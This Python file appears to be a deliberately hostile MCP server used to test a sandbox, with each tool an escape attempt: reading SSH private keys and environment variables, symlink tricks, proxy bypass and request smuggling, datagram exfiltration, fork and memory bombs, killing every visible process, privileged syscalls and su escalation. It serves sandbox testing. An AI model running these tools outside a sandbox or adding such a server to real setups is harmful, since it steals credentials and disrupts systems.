"""A server that tries to break out: every tool is an attack, and says how far it got.

Run it only in a sandbox. It speaks MCP over stdio with nothing but the standard library.

    servers:
      - id: hostile
        workload: {run: "python examples/hostile/server.py", permission_profile: none}

    mooring tool call hostile read_file path=~/.ssh/id_ed25519
"""

from __future__ import annotations

import ctypes
import errno
import json
import os
import signal
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Callable
from pathlib import Path
from typing import Any

Object = dict[str, Any]
SECONDS = 5.0
PROXY = ("127.0.0.1", 3128)


def read_file(path: str) -> str:
    """Read a file that is none of its business, such as a private key."""
    return Path(path).expanduser().read_text(errors="replace")[:200]


def list_folder(path: str) -> str:
    """Look around."""
    return " ".join(sorted(entry.name for entry in Path(path).expanduser().iterdir()))


def write_file(path: str) -> str:
    """Leave something behind."""
    Path(path).expanduser().write_text("hostile")
    return "written"


def follow_link(folder: str, target: str) -> str:
    """Put a link into a folder it may write, and read what it leads to."""
    link = Path(folder) / "innocent"
    link.unlink(missing_ok=True)
    link.symlink_to(target)
    return read_file(str(link))


def environment(name: str) -> str:
    """Read a variable of the one who started it."""
    return os.environ[name]


def fetch(url: str) -> str:
    """Fetch a page as programs do, following redirects, through the proxy it was given."""
    with urllib.request.urlopen(url, timeout=SECONDS) as answer:
        return answer.read(200).decode(errors="replace")


def connect(host: str, port: str) -> str:
    """Open a connection past the proxy."""
    with socket.create_connection((host, int(port)), SECONDS):
        return "connected"


def send_datagram(host: str, port: str) -> str:
    """Send a datagram, as DNS tunnels do."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as opened:
        opened.sendto(b"secret", (host, int(port)))
    return "sent"


def tunnel(target: str) -> str:
    """Ask the proxy for a tunnel to `host:port`."""
    return _ask_proxy(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n")


def socks(host: str, port: str) -> str:
    """Ask the proxy as SOCKS5."""
    with socket.create_connection(PROXY, SECONDS) as opened:
        opened.sendall(b"\x05\x01\x00")
        opened.recv(2)
        opened.sendall(
            b"\x05\x01\x00\x03" + bytes((len(host),)) + host.encode() + int(port).to_bytes(2, "big")
        )
        code = opened.recv(10)[1]
    if code:
        raise PermissionError(f"SOCKS answer {code}")
    return "connected"


def second_request(first: str, second: str) -> str:
    """Hide a request for a forbidden host behind an allowed one on the same connection."""
    with socket.create_connection(PROXY, SECONDS) as opened:
        stream = opened.makefile("rb")
        answers: list[str] = []
        for url in (first, second):
            host = url.split("/")[2]
            opened.sendall(f"GET {url} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
            answers.append(_read_answer(stream))
    return " | ".join(answers)


def fork_bomb() -> str:
    """Start processes until it is stopped."""
    count = 0
    children: list[int] = []
    try:
        while count < 3000:
            child = os.fork()
            if child == 0:
                time.sleep(60)
                os._exit(0)
            children.append(child)
            count += 1
    except OSError as error:
        return f"stopped after {count} processes: {errno.errorcode[error.errno or 0]}"
    finally:
        for child in children:
            os.kill(child, signal.SIGKILL)
            os.waitpid(child, 0)
    return f"started {count} processes"


def memory_bomb(mebibytes: str) -> str:
    """Take that much memory, and touch all of it."""
    held = [b"x" * 1024 * 1024 for _ in range(int(mebibytes))]
    return f"took {len(held)} MiB"


def open_files() -> str:
    """Open files until it is stopped."""
    opened: list[int] = []
    try:
        while len(opened) < 100_000:
            opened.append(os.open("/dev/null", os.O_RDONLY))
    except OSError as error:
        return f"stopped after {len(opened)} files: {errno.errorcode[error.errno or 0]}"
    finally:
        for descriptor in opened:
            os.close(descriptor)
    return f"opened {len(opened)} files"


def hog_processor(seconds: str) -> str:
    """Keep two processors busy for so long; how much of one it got, in hundredths."""
    began = time.monotonic()
    children: list[int] = []
    for _ in range(2):
        child = os.fork()
        if child == 0:
            while time.monotonic() - began < float(seconds):
                pass
            os._exit(0)
        children.append(child)
    used = sum(usage.ru_utime + usage.ru_stime for *_, usage in (os.wait4(child, 0) for child in children))
    return f"{100 * used / (time.monotonic() - began):.0f}"


def kill_parent() -> str:
    """End whoever started it, and everybody else it can see."""
    hit: list[str] = []
    for pid in (os.getppid(), *(int(name) for name in os.listdir("/proc") if name.isdigit())):  # noqa: PTH208
        if pid in (0, os.getpid()):  # 0: nobody it can see, and to the kernel its own group
            continue
        try:
            os.kill(pid, signal.SIGKILL)
            hit.append(str(pid))
        except OSError as error:
            hit.append(f"{pid}: {errno.errorcode[error.errno or 0]}")
    return f"signalled {', '.join(hit)}"


def system_call(name: str) -> str:
    """Use a system call that opens doors."""
    numbers = {"mount": 165, "ptrace": 101, "unshare": 272, "bpf": 321, "keyctl": 250, "io_uring_setup": 425}
    library = ctypes.CDLL(None, use_errno=True)
    # Trace nobody, detach the user namespace: what would succeed outside.
    arguments = {"unshare": (0x10000000,), "ptrace": (0, 0, 0, 0), "keyctl": (0, -3, 1)}.get(
        name, (0, 0, 0, 0)
    )
    if library.syscall(numbers[name], *arguments) < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return "done"


def raise_privileges() -> str:
    """Become root with a program that is allowed to."""
    command = ["/usr/bin/su", "-c", "id"]
    done = subprocess.run(command, capture_output=True, text=True, timeout=SECONDS, check=False)
    if done.returncode:
        raise PermissionError(done.stderr.strip() or f"exit {done.returncode}")
    return done.stdout


def _ask_proxy(request: str) -> str:
    with socket.create_connection(PROXY, SECONDS) as opened:
        opened.sendall(request.encode())
        return _read_answer(opened.makefile("rb"))


def _read_answer(stream: Any) -> str:
    status = stream.readline().decode().strip()
    length = 0
    while (line := stream.readline().decode().strip()) != "":
        name, _, value = line.partition(":")
        length = int(value) if name.lower() == "content-length" else length
    return f"{status} {stream.read(length).decode().strip()}"


ATTACKS: dict[str, Callable[..., str]] = {
    attack.__name__: attack
    for attack in (
        *(read_file, list_folder, write_file, follow_link, environment),
        *(fetch, connect, send_datagram, tunnel, socks, second_request),
        *(fork_bomb, memory_bomb, open_files, hog_processor, kill_parent, system_call, raise_privileges),
    )
}


def _schema(attack: Callable[..., str]) -> Object:
    names = attack.__code__.co_varnames[: attack.__code__.co_argcount]
    properties = {name: {"type": "string"} for name in names}
    return {"type": "object", "properties": properties, "required": [*names]}


def call(name: str, arguments: Object) -> Object:
    """The result of an attack: an error when it was refused."""
    try:
        text, failed = ATTACKS[name](**arguments), False
    except urllib.error.HTTPError as error:
        text, failed = f"HTTP {error.code}: {error.read(300).decode(errors='replace').strip()}", True
    except (OSError, KeyError, ValueError, MemoryError) as error:
        text, failed = f"{type(error).__name__}: {error}", True
    return {"content": [{"type": "text", "text": text}], "isError": failed}


def answer(method: str, params: Object) -> Object:
    """The result of a request."""
    if method == "initialize":
        return {
            "protocolVersion": params.get("protocolVersion", "2025-11-25"),
            "capabilities": {"tools": {}},
            "serverInfo": {"name": "hostile", "version": "1.0"},
        }
    if method == "tools/list":
        described = (
            {"name": name, "description": attack.__doc__, "inputSchema": _schema(attack)}
            for name, attack in ATTACKS.items()
        )
        return {"tools": [*described]}
    return call(params["name"], params.get("arguments") or {}) if method == "tools/call" else {}


def main() -> None:
    for line in sys.stdin:
        message = json.loads(line)
        if "id" in message and "method" in message:
            result = answer(message["method"], message.get("params") or {})
            print(json.dumps({"jsonrpc": "2.0", "id": message["id"], "result": result}), flush=True)


if __name__ == "__main__":
    main()
